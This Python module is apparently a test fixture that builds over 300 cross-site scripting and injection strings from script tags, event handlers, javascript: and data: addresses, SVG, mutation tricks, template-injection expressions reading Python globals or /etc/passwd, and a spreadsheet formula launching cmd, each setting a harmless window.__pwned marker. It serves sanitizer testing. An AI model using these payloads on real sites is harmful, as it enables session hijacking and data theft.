"""Texts that run a script wherever one of them gets into a page as it is: 300 and more.

Each sets ``window.__pwned``, which tests watch. Ways out of a context (text, attribute, comment,
script, style, title, text area …) are joined with ways in (elements, events, addresses, SVG,
templates, Markdown), so that every context meets every kind of script.
"""

from __future__ import annotations

import itertools

JS = "window.__pwned=1"

IN = (
    f"<script>{JS}</script>",
    f"<img src=x onerror={JS}>",
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f'<iframe srcdoc="<script>parent.{JS.removeprefix("window.")}</script>"></iframe>',
    f"<details open ontoggle={JS}><summary>x</summary></details>",
    f"<input autofocus onfocus={JS}>",
    f"<video><source onerror={JS}></video>",
    f'<math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror={JS}>">',
)
"""Ways in: what runs as soon as it is part of a page."""

OUT = (
    *("", '"', "'", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>"),
    *("</option></select>", "</noscript>", "</mark>", "</pre></code>", "]]>", "\x00", "</a></p>"),
    *("%22%3E", "&quot;>", "\u2028", "<!--", "<![CDATA[", "</template>", "</button></form>", "{{"),
)
"""Ways out: the end of what a text may stand in."""

ATTRIBUTES = (
    *(f'" {event}="{JS}' for event in ("onmouseover", "onclick", "onpointerenter", "onwheel")),
    *(f"' {event}='{JS}" for event in ("onmouseover", "onclick", "onanimationstart")),
    *(f"x {event}={JS} " for event in ("autofocus tabindex=1 onfocus", "onmouseover")),
    *(f'" style="animation:x" {event}="{JS}' for event in ("onanimationstart", "ontransitionend")),
    f'" accesskey="x" onclick="{JS}',
    f'" formaction="javascript:{JS}',
    f'" srcdoc="<script>{JS}</script>',
)
"""More attributes for the element that a text stands in."""

ADDRESSES = (
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f" javascript:{JS}",
    f"\x01javascript:{JS}",
    f"java\nscript:{JS}",
    f"java\tscript:{JS}",
    f"javascript&colon;{JS}",
    f"&#106;avascript:{JS}",
    f"javascript://%0a{JS}",
    f"javascript:'<script>{JS}</script>'",
    f"data:text/html,<script>parent.{JS.removeprefix('window.')}</script>",
    f"data:text/html;base64,PHNjcmlwdD5{JS}",
    f"vbscript:{JS}",
    f"//evil.example/%0d%0ax:{JS}",
    f"http://evil.example/'onmouseover='{JS}",
    f"https://evil.example/?a=<script>{JS}</script>",
    f"file:///etc/passwd#<script>{JS}</script>",
)
"""Addresses, where a text becomes a link."""

TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ self.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    f"{{{{ '<script>{JS}</script>' | safe }}}}",
    f"{{% raw %}}<script>{JS}</script>{{% endraw %}}",
    f"${{{JS}}}",
    f"#{{{JS}}}",
    f"{{{{constructor.constructor('{JS}')()}}}}",
    f"<%= {JS} %>",
    f"[[${{{JS}}}]]",
)
"""For templates of any kind, here or in the browser."""

MARKDOWN = (
    f"[x](javascript:{JS})",
    f"![x](x 'onerror={JS}')",
    f"![x](javascript:{JS})",
    f"<javascript:{JS}>",
    f"[x]: javascript:{JS}\n\n[x]",
    f"[x](<javascript:{JS}>)",
    f"[x](data:text/html,<script>{JS}</script>)",
    f"`<script>{JS}</script>`",
    f"```\n</code></pre><script>{JS}</script>\n```",
    f"> <script>{JS}</script>",
    f"- [ ] <img src=x onerror={JS}>",
    f"# <svg onload={JS}>",
    f"<a href='javascript:{JS}'>x</a>",
    f"a | b\n--|--\n<script>{JS}</script> | x",
    f"==<script>{JS}</script>==",
    f"[[x|<script>{JS}</script>]]",
    f"![[<script>{JS}</script>]]",
    f"[[javascript:{JS}]]",
    f"[[x' onmouseover='{JS}]]",
    f'![[x" onload="{JS}|<img src=x onerror={JS}>]]',
    f"[[x#<svg onload={JS}>]]",
    f'[x](<x" onclick="{JS}>)',
    f"[[x|[y](javascript:{JS})]]",
)
"""For pages that make HTML of notes."""

JSON_AND_CSV = (
    f'</script><script>{JS}</script>"',
    f'"}};{JS};//',
    f"';{JS};//",
    f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
    f"\\';{JS};//",
    f"`;{JS};`",
    f'=HYPERLINK("javascript:{JS}")',
    f"@SUM(1+1)*cmd|' /C calc'!A0<script>{JS}</script>",
    f'-1,"<img src=x onerror={JS}>"',
    f"\r\n\r\n<script>{JS}</script>",
    f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
    f"<ScRiPt>{JS}</sCrIpT>",
    f"<<script>{JS}//<</script>",
    f"<script/x>{JS}</script/x>",
    f"<script\n>{JS}</script\n>",
    f"＜script＞{JS}＜/script＞",
    f"<base href='//evil.example/'><script>{JS}</script>",
    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    f"<link rel=stylesheet href='data:text/css,*{{}}' onload={JS}>",
    f"<object data='javascript:{JS}'></object>",
    f"<embed src='javascript:{JS}'>",
    f"<form action='javascript:{JS}'><input type=submit autofocus></form>",
    f"<marquee onstart={JS}>",
    f"<body onload={JS}>",
)
"""For scripts that hold data, spreadsheets, and readers that are too kind."""

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(after + before for before, after in itertools.product(IN, OUT)),
            *ATTRIBUTES,
            *ADDRESSES,
            *TEMPLATES,
            *MARKDOWN,
            *JSON_AND_CSV,
        ]
    )
)
"""All of them."""

FOR_OTHER_READERS = frozenset(
    (
        *("{{ 7 * 7 }}", "{{ self.__init__.__globals__ }}", "{% include '/etc/passwd' %}"),
        *(f"#{{{JS}}}", f"{{{{constructor.constructor('{JS}')()}}}}", f"<%= {JS} %>"),
        *(f"[x](javascript:{JS})", f"![x](javascript:{JS})", f"<javascript:{JS}>"),
        *(f"[x]: javascript:{JS}\n\n[x]", f"[x](<javascript:{JS}>)"),
        *(f"[[javascript:{JS}]]", f"[[x|[y](javascript:{JS})]]"),
        *(f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e", f"\\';{JS};//"),
        *(f'=HYPERLINK("javascript:{JS}")', f"+ADw-script+AD4-{JS}+ADw-/script+AD4-"),
        *(f"＜script＞{JS}＜/script＞", f"//evil.example/%0d%0ax:{JS}"),
        *(f"<!--<script>{JS}</script>", f"<![CDATA[<script>{JS}</script>"),
    )
)
"""Those that no browser of today runs where they stand: they are for templates, makers of HTML from
Markdown or JSON, spreadsheets, other encodings, or filters that take something away."""
